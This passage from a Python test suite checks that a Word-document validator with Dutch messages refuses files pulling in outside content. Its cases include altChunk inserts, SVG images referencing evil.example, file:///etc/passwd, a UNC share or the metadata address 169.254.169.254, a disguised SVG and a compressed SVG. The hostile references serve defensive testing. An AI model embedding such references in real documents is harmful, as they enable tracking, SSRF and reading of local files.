        f'<Relationship Id="rIdAlt" Type="{RELATIONSHIPS}/aFChunk" Target="afchunk.htm"/>',
    )
    message = _refused(_in_body(content, f'<w:altChunk xmlns:r="{RELATIONSHIPS}" r:id="rIdAlt"/>'))
    assert "voegt een ander document in (altChunk, 'word/document.xml')" in message
    assert "een ingevoegd ander document (altChunk) ('word/_rels/document.xml.rels')" in message


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


@pytest.mark.parametrize(
    ("svg", "target"),
    [
        (f'<svg {SVG_NS}><image xlink:href="http://evil.example/a.png"/></svg>', "http://evil"),
        (f'<svg {SVG_NS}><image href="https://evil.example/a.png"/></svg>', "https://evil"),
        (f'<svg {SVG_NS}><use href="file:///etc/passwd#x"/></svg>', "file:///etc/passwd"),
        (f'<svg {SVG_NS}><use xlink:href="\\\\server\\share\\a.svg#x"/></svg>', "\\\\server"),
        (f'<svg {SVG_NS}><rect style="fill:url(http://evil.example/f.svg#p)"/></svg>', "http:"),
        (f"<svg {SVG_NS}><rect filter=\"url( 'https://evil.example/f#x' )\"/></svg>", "https:"),
        (f"<svg {SVG_NS}><style>@import url(http://evil.example/a.css);</style></svg>", "http:"),
        (f'<svg {SVG_NS}><style>@import "a.css";</style></svg>', "@import"),
        (
            f'<?xml-stylesheet href="http://evil.example/a.css"?><svg {SVG_NS}/>',
            "xml-stylesheet",
        ),
    ],
)
def test_s3_svg_picture_with_a_remote_reference_is_refused(svg, target):
    content = _rezip(word_file("x"), add={"word/media/image1.svg": svg.encode()})
    message = _refused(content)
    assert "SVG-afbeelding ('word/media/image1.svg') die iets van buiten het document" in message
    assert target in message


def test_s3_svg_hidden_under_another_name_is_checked_too():
    svg = f'<svg {SVG_NS}><image href="http://evil.example/a.png"/></svg>'.encode("utf-16")
    content = _rezip(word_file("x"), add={"word/media/image1.png": svg})
    assert "SVG-afbeelding ('word/media/image1.png')" in _refused(content)


def test_s3_svg_referring_only_to_itself_is_allowed():
    svg = (
        f'<svg {SVG_NS} viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs>'
        '<rect width="10" height="10" fill="url(#g)" style="stroke:url(#g)"/>'
        '<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'
    )
    check_archive(_rezip(word_file("x"), add={"word/media/image1.svg": svg.encode()}))


def test_s3_svg_picture_linked_by_r_link_is_refused():
    content = _with_relationship(
        word_file("x"),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/image" '
        'Target="http://evil.example/logo.svg"/>',
    )
    blip = (
        '<w:p><w:r><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{RELATIONSHIPS}"><a:extLst>'
        '<a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        'r:link="rId99"/></a:ext></a:extLst></a:blip></w:r></w:p>'
    )
    message = _refused(_in_body(content, blip))
    assert "gekoppelde afbeelding ('word/document.xml')" in message
    assert "buiten het document (image: 'http://evil.example/logo.svg')" in message


def test_s3_relationship_to_a_url_without_target_mode_is_refused():
    content = _with_relationship(
        word_file("x"),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/image" '
        'Target="http://169.254.169.254/logo.png"/>',
    )
    assert "buiten het document (image: 'http://169.254.169.254/logo.png')" in _refused(content)


def test_s3_compressed_svg_is_refused():
    content = _rezip(word_file("x"), add={"word/media/image1.svgz": b"\x1f\x8b" + bytes(100)})
    assert "ingepakte SVG-afbeelding" in _refused(content)
